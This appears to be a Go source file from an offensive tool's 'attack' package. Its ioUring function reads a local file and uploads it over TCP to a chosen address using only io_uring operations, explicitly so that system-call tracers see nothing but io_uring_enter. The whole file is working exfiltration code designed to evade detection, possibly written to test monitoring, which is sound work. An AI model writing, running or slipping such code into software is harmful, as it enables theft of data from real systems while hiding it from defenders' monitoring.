package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net/netip"
	"os"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// ioUring uploads bare bytes without one socket system call: socket, connect,
// read and send are all io_uring operations, so that a tracer of system calls
// sees io_uring_enter and nothing else.
func ioUring(_ context.Context, o Options, to netip.AddrPort) (int64, error) {
	file, err := os.Open(o.File)
	if err != nil {
		return 0, err
	}
	defer file.Close()
	r, err := newRing()
	if err != nil {
		return 0, err
	}
	defer r.close()
	socket, err := r.do("socket", sqe{opcode: opSocket, fd: unix.AF_INET, offset: unix.SOCK_STREAM})
	if err != nil {
		return 0, err
	}
	defer unix.Close(socket)
	if err := r.connect(socket, to); err != nil {
		return 0, err
	}
	written, err := r.copy(socket, int(file.Fd()))
	if err != nil {
		return written, err
	}
	return written, drainSocket(socket)
}

func (r *ring) connect(socket int, to netip.AddrPort) error {
	r.peer = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: to.Addr().As4()}
	binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&r.peer.Port))[:], to.Port())
	_, err := r.do("connect", sqe{
		opcode: opConnect, fd: int32(socket), addr: address(unsafe.Pointer(&r.peer)), offset: uint64(unsafe.Sizeof(r.peer)),
	})
	return err
}

// copy moves the file into the socket.
func (r *ring) copy(socket, file int) (int64, error) {
	buf := make([]byte, 256<<10)
	defer runtime.KeepAlive(buf)
	at := address(unsafe.Pointer(&buf[0]))
	var written int64
	for {
		n, err := r.do("read", sqe{opcode: opRead, fd: int32(file), addr: at, len: uint32(len(buf)), offset: uint64(written)})
		if err != nil || n == 0 {
			return written, err
		}
		for sent := 0; sent < n; {
			m, err := r.do("send", sqe{
				opcode: opSend, fd: int32(socket), addr: at + uint64(sent), len: uint32(n - sent), opFlags: unix.MSG_NOSIGNAL,
			})
			if err != nil {
				return written + int64(sent), err
			}
			if m == 0 {
				return written + int64(sent), io.ErrShortWrite
			}
			sent += m
		}
		written += int64(n)
	}
}

// drainSocket ends the sending side and waits for the peer's end.
func drainSocket(socket int) error {
	if err := unix.Shutdown(socket, unix.SHUT_WR); err != nil {
		return err
	}
	for {
		_, err := unix.Read(socket, make([]byte, 1))
		if !errors.Is(err, unix.EINTR) {
			return nil // the end, or a reset: it is over
		}
	}
}

// address is a pointer as the kernel wants it in an entry. Its owner is kept
// alive by the caller, and Go's collector does not move heap objects.
func address(p unsafe.Pointer) uint64 { return uint64(uintptr(p)) }
